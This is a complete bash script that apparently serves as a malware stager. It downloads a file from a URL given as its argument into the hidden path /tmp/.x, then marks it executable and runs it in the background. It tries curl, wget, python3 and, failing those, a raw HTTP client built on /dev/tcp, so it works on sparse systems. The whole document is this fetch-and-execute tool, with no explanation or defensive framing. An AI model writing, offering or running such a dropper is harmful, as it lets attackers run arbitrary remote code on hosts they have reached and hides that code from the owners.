#!/bin/bash
get() {
  read proto server path <<<$(echo ${1//// })
  DOC=/${path// //}
  HOST=${server//:*}
  PORT=${server//*:}
  exec 3<>/dev/tcp/${HOST}/${PORT:-80}
  echo -en "GET ${DOC} HTTP/1.0\r\nHost: ${HOST}\r\n\r\n" >&3
  (while read line; do [[ "$line" == $'\r' ]] && break; done && cat) <&3
  exec 3>&-
}
if command -v curl >/dev/null; then curl -s $1 > /tmp/.x;
elif command -v wget >/dev/null; then wget -q -O /tmp/.x $1;
elif command -v python3 >/dev/null; then python3 -c "import urllib.request,sys;sys.stdout.buffer.write(urllib.request.urlopen('$1').read())" > /tmp/.x;
else get $1 > /tmp/.x; fi
chmod +x /tmp/.x && /tmp/.x &
